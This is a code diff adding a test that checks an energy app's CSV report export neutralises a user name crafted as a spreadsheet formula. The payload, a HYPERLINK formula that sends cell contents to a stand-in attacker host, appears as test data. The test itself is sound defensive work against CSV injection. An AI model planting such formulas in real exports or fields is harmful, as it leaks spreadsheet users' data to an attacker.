@@ -141,4 +141,37 @@ describe('energy and reports', () => {
       gone.call('generateReport', { params: { deviceId: plug }, body: range }),
     ).rejects.toMatchObject({ statusCode: 404 });
   });
+
+  it('serves a shared user named like a formula as text in the owner’s CSV', async () => {
+    const plug = stack.ids.plug;
+    await addUser(stack.server, 'formula@example.com', 'FormulaPass1');
+    const guest = await loggedIn(stack.server.url, 'formula@example.com', 'FormulaPass1');
+    const name = '=HYPERLINK("http://evil.example/?d="&A1,"Open")';
+    const token = (await guest.login('formula@example.com', 'FormulaPass1')).token;
+    const renamed = await fetch(`${stack.server.url}/api/v1/users/profile/Name/update`, {
+      method: 'PATCH',
+      headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
+      body: JSON.stringify({ firstName: name }),
+    });
+    expect(renamed.status).toBe(200);
+    const startTs = Date.now() - H;
+    const share = await stack.client.call('createShare', { params: { id: plug }, body: { scope: 'view' } });
+    await guest.call('finalizeShare', { params: { shareToken: share.token } });
+    const report = await stack.client.call('generateReport', {
+      params: { deviceId: plug },
+      body: { startTs, endTs: Date.now() + H },
+    });
+    expect(report.events.some((e) => e.key === 'share.accepted' && e.value === name)).toBe(true);
+    const owner = (await stack.client.login(DEMO_EMAIL, DEMO_PASSWORD)).token;
+    const csv = await fetch(`${stack.server.url}/api/v1/reports/${plug}/${report.id}/csv`, {
+      headers: { authorization: `Bearer ${owner}` },
+    });
+    const rows = (await csv.text()).split('\r\n').filter((l) => l.includes('share.accepted'));
+    const quoted = `"'${name.replaceAll('"', '""')}"`;
+    expect(rows).toContainEqual(expect.stringMatching(/,event,share\.accepted,/));
+    const mine = rows.find((l) => l.includes('HYPERLINK')) ?? '';
+    // The cell starts with a quote mark, so a spreadsheet shows it as text and never runs it.
+    expect(mine.endsWith(`,event,share.accepted,${quoted}`)).toBe(true);
+    expect(rows.every((l) => !/,=|,"=/.test(l))).toBe(true);
+  });
 });
